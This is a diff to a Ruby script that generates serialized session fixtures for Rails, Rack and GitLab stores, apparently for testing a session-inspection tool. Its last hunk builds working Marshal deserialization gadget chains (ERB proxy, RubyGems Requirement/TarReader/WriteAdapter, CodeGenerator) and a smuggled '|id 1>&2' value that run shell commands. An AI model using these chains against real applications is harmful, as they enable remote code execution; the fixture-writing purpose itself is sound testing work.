@@ -75,7 +75,7 @@ end
 
 # redis-rack
 $stack = lambda do |app|
-  Rack::Session::Redis.new(app, redis_server: {path: SOCKET}, expire_after: 3600)
+  Rack::Session::Redis.new(app, redis_server: {path: SOCKET, namespace: "rack:session"}, expire_after: 3600)
 end
 value, = visit { |session, _| session["user_id"] = 42; session["name"] = "Ada"; session["tags"] = %w[a b] }
 stored("redis-rack.bin", value, store: "redis-rack", version: "redis-rack 2.1.2, Ruby #{RUBY_VERSION}", serializer: "Marshal", chain: "Ruby Marshal", framework: "Rack")
@@ -136,7 +136,7 @@ marshal = Marshal.dump(session)
   add("cache-#{name}.bin", bytes, session, store: "Rails :cache_store", version: "Rails #{name[0, 3]}", serializer: "Marshal", compressor: compressor, made: "specification",
     key: "_session_id:2::#{OpenSSL::Digest::SHA256.hexdigest(SID)}", chain: "Rails #{name[0, 3]} cache entry > Ruby Marshal", framework: "Rails")
 end
-{2 => ["utf8", "Grüße", "text"], 3 => ["binary", "\xff\x00\x01\x02".b, "bytes"], 4 => ["ascii", "plain", "text"]}.each do |type, (name, text, chain)|
+{2 => ["utf8", "Grüße", "text"], 4 => ["ascii", "plain", "text"]}.each do |type, (name, text, chain)|
   add("cache-7.1-#{name}.bin", "\x00\x11".b + [type, -1.0, -1].pack("CEl<") + text.b, text, store: "Rails cache", version: "Rails 7.1", serializer: "none", made: "specification",
     chain: "Rails 7.1 cache entry > #{chain}")
 end
@@ -182,6 +182,8 @@ add("msgpack.bin", packed(everything), everything, chain: "Rails MessagePack", *
 utc = Time.at(1_700_000_000).utc
 zoned = {"utc" => [1], "zoned" => ActiveSupport::TimeZone["UTC"].at(1_700_000_000.5)}
 add("msgpack-zone.bin", packed(zoned), zoned, chain: "Rails MessagePack", **message_pack)
+# MessagePack tells text from bytes.
+session = session.merge("return_to" => "/orders?page=2")
 add("cache-7.1-msgpack.bin", "\x00\x11".b + [1, 1_700_003_600.0, -1].pack("CEl<") + packed(session), session, chain: "Rails 7.1 cache entry > Rails MessagePack", framework: "Rails", **message_pack)
 
 # Cookies
@@ -250,16 +252,34 @@ add("gitlab.bin", marshal, session, store: "GitLab", version: "GitLab", serializ
   key: "session:gitlab:2::#{OpenSSL::Digest::SHA256.hexdigest(SID)}", chain: "Ruby Marshal", framework: "GitLab")
 File.write(File.join(FOLDER, "private-id.txt"), "#{SID} #{Rack::Session::SessionId.new(SID).private_id}\n")
 
-# Gadgets: what an attacker would send. Written, never loaded.
-class ERB
-  def self.harmless(source) = allocate.tap { |erb| erb.instance_variable_set(:@src, source); erb.instance_variable_set(:@filename, "1"); erb.instance_variable_set(:@lineno, 1) }
+# Gadgets: what an attacker would send. Written with classes that only have names of the same length, and never loaded.
+RENAMED = {}
+def named(name, variables = {}, state: nil)
+  stand_in = RENAMED.key(name) || "P" + RENAMED.size.to_s.rjust(name.size - 1, "x")
+  unless RENAMED[stand_in]
+    made = Class.new
+    made.define_method(:marshal_dump) { @state } if state
+    Object.const_set(stand_in, made)
+    RENAMED[stand_in] = name
+  end
+  object = Object.const_get(stand_in).allocate
+  object.instance_variable_set(:@state, state) if state
+  variables.each { |variable, value| object.instance_variable_set(variable, value) }
+  object
 end
-proxy = ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy.allocate
-{"@instance" => ERB.harmless("system('id')"), "@method" => :result, "@var" => "@result", "@deprecator" => nil}.each { |name, part|
-  Object.instance_method(:instance_variable_set).bind_call(proxy, name, part) }
-dumped = "\x04\bo:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\b:\x0E@instance".b + Marshal.dump(ERB.harmless("system('id')"))[2..] +
-  ":\f@method:\vresult:\t@varI\"\f@result\x06:\x06ET".b
-File.binwrite(File.join(FOLDER, "gadget-erb.bin"), dumped)
+def gadget(name, value)
+  File.binwrite(File.join(FOLDER, "gadget-#{name}.bin"), RENAMED.reduce(Marshal.dump(value)) { |bytes, (short, long)| bytes.gsub(short.b, long.b) })
+end
+erb = named("ERB", {"@src": "system('id')", "@filename": "1", "@lineno": 1})
+gadget("erb", named("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy", {"@instance": erb, "@method": :result, "@var": "@result", "@deprecator": nil}))
+set = named("Gem::RequestSet", {"@sets": named("Net::WriteAdapter", {"@socket": Kernel, "@method_id": :system}), "@git_set": "id"})
+output = named("Net::WriteAdapter", {"@socket": set, "@method_id": :resolve})
+entry = named("Gem::Package::TarReader::Entry", {"@read": 0, "@header": "abc"})
+reader = named("Gem::Package::TarReader", {"@io": named("Net::BufferedIO", {"@io": entry, "@debug_output": output})})
+gadget("rubygems", [named("Gem::Requirement", {}, state: [reader])])
+gadget("stub", {"user_id" => 1, "x" => named("Gem::StubSpecification", {"@loaded_from": "|id 1>&2"})})
+gadget("codegen", {"x" => named("ActiveModel::AttributeMethods::ClassMethods::CodeGenerator", {"@owner": Kernel, "@path": "x", "@line": 1, "@sources": ["system('id')"]})})
+gadget("method", {"job" => named("Worker", {"@target": "Kernel", "@method": :system, "@arguments": ["id"]})})
 
 PAYLOADS.each { |line| line[:version] = line[:version].to_s }
 File.write(File.join(FOLDER, "manifest.json"), JSON.pretty_generate({payloads: PAYLOADS.sort_by { |line| line[:file] }}) + "\n")
